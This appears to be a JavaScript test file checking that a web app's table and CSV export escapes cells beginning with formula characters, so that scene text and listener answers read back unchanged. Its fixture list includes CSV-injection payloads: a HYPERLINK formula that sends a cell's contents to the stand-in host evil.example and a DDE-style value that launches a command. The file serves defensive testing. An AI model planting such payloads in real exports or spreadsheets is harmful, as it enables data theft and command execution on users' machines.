// SPDX-License-Identifier: MIT
// Tables that pages export: a spreadsheet must not take spoken text for a formula, and a scene reads back as written.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { readCsv, readScene, readTable, writeCsv, writeTable } from '../../../web/pages/operator/scene.js';

const root = path.resolve(fileURLToPath(import.meta.url), '../../../..');
const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '- Ciao, come va?', '=1,2\n3'];
const begins = /^"?[=+\-@\t\r]/;

test('escapes cells that a spreadsheet would evaluate', () => {
  for (const text of formulas) {
    assert.doesNotMatch(writeTable([[text]]), begins, text);
    assert.deepEqual(readTable(writeTable([['x', text, 'y']])), [['x', text, 'y']], 'read as it was');
  }
  for (const text of ["'=1", "''-2", "'quoted'", "it's", 'a=b', '1-2']) assert.deepEqual(readTable(writeTable([[text]])), [[text]], text);
  assert.equal(writeTable([['Ciao', "l'ora"]]), "Ciao,l'ora\r\n", 'all else is written as ever');
});

test('restores a scene whose lines begin with formula characters', () => {
  const scene = readScene({ lines: [{ text: '- Ciao.', variants: ['- Salve.', '+ uno'], choices: [{ text: '=sì' }] }, { text: "'=no" }].map((line, i) => ({ id: String(i), mood: '', choices: [], variants: [], ...line })) });
  assert.deepEqual(readCsv(writeCsv(scene)).lines, scene.lines);
});

test('escapes answers of listeners the same way', () => {
  const page = fs.readFileSync(path.join(root, 'models/stimuli/page.html'), 'utf8');
  const [source] = page.match(/const harmless =.*/);
  const harmless = new Function(`${source} return harmless;`)();
  for (const text of formulas) assert.doesNotMatch(String(harmless(text)), begins, text);
  assert.deepEqual([harmless(-6), harmless('-6'), harmless('+1.5'), harmless('Anna')], [-6, '-6', '+1.5', 'Anna']);
  assert.match(page, /rows\.map\(\(row\) => row\.map\(harmless\)/);
});
